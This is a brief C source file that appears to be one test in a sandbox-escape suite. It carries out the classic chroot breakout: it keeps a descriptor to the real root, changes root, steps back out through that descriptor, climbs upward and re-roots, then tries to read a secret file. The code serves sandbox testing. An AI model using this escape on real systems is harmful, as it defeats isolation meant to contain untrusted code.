/* The classic way out of a changed root: change it again, while standing outside of it. */
#include "attack.h"
int main(void) {
    mkdir("/tmp/zoo-root", 0700);
    int before = open("/", O_RDONLY | O_DIRECTORY);
    TRY("changes its root", chroot("/tmp/zoo-root"));
    if (chroot("/tmp/zoo-root") == 0 && fchdir(before) == 0) {
        for (int up = 0; up < 64; up++)
            if (chdir("..") != 0) break;
        if (chroot(".") != 0) return 1;
    }
    TRY("reads a secret", open("@home@", O_RDONLY));
    return play_on();
}
